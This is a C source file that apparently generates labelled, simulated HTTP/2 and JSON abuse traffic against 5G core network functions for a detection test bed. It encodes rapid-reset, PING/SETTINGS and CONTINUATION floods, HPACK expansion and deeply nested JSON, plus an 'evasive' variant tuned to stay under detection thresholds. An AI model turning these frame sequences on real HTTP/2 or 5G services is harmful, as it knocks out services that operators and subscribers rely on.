/* SPDX-License-Identifier: Apache-2.0
 *
 * attack_http.c - D45: HTTP/2 and JSON that are there to hurt who reads them
 */
#include "watch/generate/attack.h"

enum { FRAME_HEADERS = 1, FRAME_RST = 3, FRAME_SETTINGS = 4, FRAME_PING = 6, FRAME_GOAWAY = 7, FRAME_CONTINUATION = 9,
       END_STREAM = 1, END_HEADERS = 4, ACK = 1, CANCEL = 8, ENHANCE_YOUR_CALM = 11 };

static const struct asking discover = {
	NF_NRF, { "GET", "/nnrf-disc/v1/nf-instances?requester-nf-type=AMF&target-nf-type=SMF", "", NULL, { NULL,
		NULL } },
	{ "200", "", "{'validityPeriod':3600,'nfInstances':[]}", NULL, { NULL, NULL } },
};

static struct sbi_link *link_of(struct attack *at, const struct node *from)
{
	struct world *w = at->world;
	struct sbi_link *l = say_link(w, from, &w->nf[NF_NRF], PORT_SBI);
	attack_speaker(at, from);
	http_open(&w->wire, &l->http);
	return l;
}

/* Streams begun and given up at once: `of` ten. */
static void reset(struct attack *at, const struct node *from, unsigned streams, unsigned of)
{
	struct world *w = at->world;
	struct sbi_link *l = link_of(at, from);
	uint8_t why[4];
	put_at(why, CANCEL, 4);
	for (unsigned i = 0; i < streams; i++) {
		if (rng_u32(&at->rng) % 10 >= of) {
			attack_ask(at, from, &discover, NULL);
			continue;
		}
		struct ue who = { .world = w, .rng = at->rng, .self = from };
		uint32_t stream = say_request(&who, l, &discover.ask);
		http_frame(&w->wire, &l->http, 0, FRAME_RST, 0, stream, (struct span){ why, sizeof why });
	}
}

/* Each wants an answer. */
static void flood(struct attack *at, const struct node *from, unsigned frames)
{
	struct wire *w = &at->world->wire;
	struct http *h = &link_of(at, from)->http;
	static const uint8_t setting[] = { 0, 3, 0, 0, 0, 100 };
	for (unsigned i = 0; i < frames; i++) {
		uint8_t ping[8];
		put_at(ping, i, 8);
		http_frame(w, h, 0, FRAME_PING, 0, 0, (struct span){ ping, sizeof ping });
		http_frame(w, h, 0, FRAME_SETTINGS, 0, 0, (struct span){ setting, sizeof setting });
		http_frame(w, h, 1, FRAME_PING, ACK, 0, (struct span){ ping, sizeof ping });
		http_frame(w, h, 1, FRAME_SETTINGS, ACK, 0, (struct span){ NULL, 0 });
	}
}

/* What the function says to a connection that it has enough of. */
static void refuse(struct attack *at, struct http *h, uint32_t stream)
{
	uint8_t why[8];
	put_at(why, stream, 4);
	put_at(why + 4, ENHANCE_YOUR_CALM, 4);
	attack_unmark(at);
	http_frame(&at->world->wire, h, 1, FRAME_GOAWAY, 0, 0, (struct span){ why, sizeof why });
	wire_tcp_close(&at->world->wire, &h->tcp, 1);
	attack_mark(at);
}

static void put_start(struct put *o) /* method GET, scheme http, path: from the static table, and one literal */
{
	put_be(o, 0x8286, 2);
	put_be(o, 0x04, 1);
	put_be(o, 25, 1);
	put_text(o, "/nnrf-nfm/v1/nf-instances");
}

/* A head without an end: fields in frames of continuation. */
static void continuation(struct attack *at, const struct node *from, unsigned frames)
{
	struct wire *w = &at->world->wire;
	struct http *h = &link_of(at, from)->http;
	uint32_t stream = 1 + 2 * h->streams++;
	uint8_t octets[1024];
	struct put o = put_in(octets, sizeof octets);
	put_start(&o);
	http_frame(w, h, 0, FRAME_HEADERS, END_STREAM, stream, put_span(&o));
	for (unsigned i = 0; i < frames; i++) {
		o = put_in(octets, sizeof octets);
		for (unsigned k = 0; k < 60; k++) {
			put_be(&o, 0x0003, 2); /* literal, not remembered */
			put_text(&o, "x-a");
			put_be(&o, 8, 1);
			put_be(&o, (uint64_t)0x61616161 << 32 | (0x61616161 + rng_u32(&at->rng) % 8), 8);
		}
		http_frame(w, h, 0, FRAME_CONTINUATION, 0, stream, put_span(&o));
	}
	refuse(at, h, stream);
}

/* One long field in the table of headers, then told again and again, an octet each time. */
static void expansion(struct attack *at, const struct node *from, unsigned times)
{
	enum { LONG = 3800 };
	struct wire *w = &at->world->wire;
	struct http *h = &link_of(at, from)->http;
	uint32_t stream = 1 + 2 * h->streams++;
	uint8_t octets[8192];
	struct put o = put_in(octets, sizeof octets);
	put_start(&o);
	put_be(&o, 0x4003, 2); /* literal, remembered */
	put_text(&o, "x-a");
	put_be(&o, 0x7f, 1); /* its length: 127 and the rest, seven bits at a time */
	put_be(&o, 0x80 | ((LONG - 127) & 0x7f), 1);
	put_be(&o, (LONG - 127) >> 7, 1);
	for (unsigned i = 0; i < LONG; i++)
		put_be(&o, 'a' + i % 26, 1);
	for (unsigned i = 0; i < times; i++)
		put_be(&o, 0x80 | 62, 1);
	http_frame(w, h, 0, FRAME_HEADERS, END_STREAM | END_HEADERS, stream, put_span(&o));
	refuse(at, h, stream);
}

/* Objects in objects; the function fails. */
static void nested(struct attack *at, const struct node *from, unsigned depth)
{
	struct world *w = at->world;
	struct buf b = buf_in(w->a);
	for (unsigned i = 0; i < depth; i++)
		buf_str(&b, "{'a':");
	buf_str(&b, "0");
	for (unsigned i = 0; i < depth; i++)
		buf_str(&b, "}");
	struct asking a = { NF_NRF, { "PUT", "/nnrf-nfm/v1/nf-instances/$id", b.p, NULL, { NULL, NULL } },
		{ "500", "", "{'status':500,'cause':'SYSTEM_FAILURE'}", NULL, { NULL, NULL } } };
	attack_ask(at, from, &a, NULL);
}

/* `near`: a proxy in front of the UDM is down for some seconds: everybody hears 504, some give up waiting. */
static void down(struct attack *at)
{
	struct world *w = at->world;
	static const struct asking late = {
		NF_UDM, { "GET", "/nudm-sdm/v2/imsi-$supi/smf-select-data", "", "$token", { NULL, NULL } },
		{ "504", "", "{'status':504,'title':'Gateway Timeout','cause':'TARGET_NF_NOT_REACHABLE'}", NULL,
			{ NULL, NULL } },
	};
	const struct node *amf = &w->nf[NF_AMF];
	attack_ask(at, amf, &late, world_some_ue(w, &at->rng, 0));
	if (at->round % 5 == 4) {
		struct sbi_link *l = say_link(w, amf, &w->nf[NF_UDM], PORT_SBI);
		struct ue who = { .world = w, .number = 1, .rng = at->rng, .self = amf };
		uint8_t why[4];
		put_at(why, CANCEL, 4);
		uint32_t stream = say_request(&who, l, &late.ask);
		http_frame(&w->wire, &l->http, 0, FRAME_RST, 0, stream, (struct span){ why, sizeof why });
	}
}

static void mixture(struct attack *at, const struct node *from)
{
	if (at->round < 60)
		reset(at, from, 10, 10);
	else if (at->round < 80)
		flood(at, from, 10);
	else if (at->round == 80)
		nested(at, from, 200);
	else if (at->round == 81)
		continuation(at, from, 300);
	else
		expansion(at, from, 3000);
}

/* D45: resets, pings and settings, JSON too deep, a head that does not end, a head that grows, one after the
 * other; all but the first two by themselves under their names.  `evasive`: resets below a hundred a second and
 * below nine of ten, from three addresses. */
void attack_http_abuse(struct attack *at)
{
	enum { PLAIN = 83 };
	static const struct {
		const char *variant;
		void (*say)(struct attack *at, const struct node *from, unsigned n);
		unsigned n;
	} by_name[] = { { "json", nested, 200 }, { "continuation", continuation, 300 }, { "hpack", expansion, 3000 } };
	bool evasive = attack_is(at, "evasive"), near = attack_is(at, "near");
	unsigned which = evasive ? at->round % 3 : 0;
	uint32_t rounds = near ? 20 : evasive ? 120 : attack_is(at, "") ? PLAIN : 1;
	const struct node *from = attack_node(at, which, NF_INSIDER, "amf");
	if (near)
		down(at);
	else if (evasive)
		reset(at, from, 7, 8);
	else if (attack_is(at, ""))
		mixture(at, from);
	for (size_t i = 0; i < COUNT(by_name); i++)
		if (attack_is(at, by_name[i].variant))
			by_name[i].say(at, from, by_name[i].n);
	attack_repeat(at, rounds, near ? 4e5 : evasive ? 1e5 : 4e4);
}
